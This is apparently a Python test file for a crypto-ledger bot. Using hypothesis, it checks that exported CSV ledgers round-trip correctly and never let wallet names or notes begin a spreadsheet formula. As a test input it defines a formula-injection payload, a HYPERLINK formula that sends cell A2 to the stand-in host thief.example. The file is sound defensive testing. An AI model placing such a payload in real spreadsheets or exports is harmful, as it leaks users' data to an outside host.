"""Whatever people call their coins and wallets: no spreadsheet computes it, and it comes back."""

import csv
import io
from dataclasses import replace
from datetime import UTC, datetime

import pytest
from hypothesis import assume, example, given, settings
from hypothesis import strategies as st

from bot.core.cells import guarded, unguarded
from bot.core.ledger import Kind, Row
from bot.core.ledger_fields import is_text
from bot.core.ledger_file import COLUMNS, TEXTS, ledger_text, read_ledger
from tests.build import UTC as UTC_ZONE
from tests.build import d

FORMULA = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
ATTACK = '=HYPERLINK("https://thief.example/?"&A2;"see")'
pieces = st.sampled_from([*FORMULA, "'", '"', ";", ",", "\n", " ", "\xa0", "a", "1", ATTACK])
texts = st.lists(st.one_of(pieces, st.text(max_size=3)), max_size=9).map("".join)
ROW = Row(1, datetime(2026, 1, 2, tzinfo=UTC), Kind.MOVE, "BTC", d(1), to_wallet="b", id="1")


def cells(text: str, delimiter: str) -> list[str]:
    """Return what a spreadsheet sees that parts the lines of a text so."""
    lines = csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
    return [cell for line in lines for cell in line]


@settings(max_examples=500)
@given(texts)
@example("''=1")
@example("'")
@example("\t'=")
@example(f"a;'{ATTACK}")
def test_a_text_comes_back_and_its_cell_begins_no_formula(text: str) -> None:
    cell = guarded(text)

    assert unguarded(cell) == text
    assert not cell.startswith(FORMULA)
    assert unguarded(text) == text or guarded(unguarded(text)) == text


@settings(max_examples=300)
@given(texts, texts, st.sampled_from([",", ";", "\t"]))
@example("w", f"a;{ATTACK}", ";")
@example("w", 'a;"=1+1;', ";")
@example("w", "a\n=1+1", ";")
@example("a\r=1", "b", ";")
@example(";\t=1", "b", ";")
@example("=\n\t=", "b", ";")
@example("w", "a\t @SUM(A1)", "\t")
def test_an_export_reads_back_the_same_and_holds_no_formula(
    wallet: str, note: str, delimiter: str
) -> None:
    assume(is_text(wallet) and is_text(note) and wallet.strip() not in {"", "b"})
    row = replace(ROW, wallet=wallet.strip(), note=note.strip() or None, id=wallet.strip())

    text = ledger_text((row,))

    assert read_ledger(text, UTC_ZONE) == (replace(row, line=2),)
    found = [cell.lstrip(' "\t\r\n') for cell in cells(text, delimiter)]
    assert not [cell for cell in found if cell.startswith(FORMULA)]


@pytest.mark.parametrize("name", COLUMNS)
def test_numbers_and_days_stay_as_they_are(name: str) -> None:
    row = replace(ROW, quantity=d("1E-8"), total=d(5), currency="EUR", fee=d("0.1"))

    header, cells_of_row = (cells(line, ",") for line in ledger_text((row,)).splitlines())

    assert name in TEXTS or "'" not in dict(zip(header, cells_of_row, strict=True))[name]
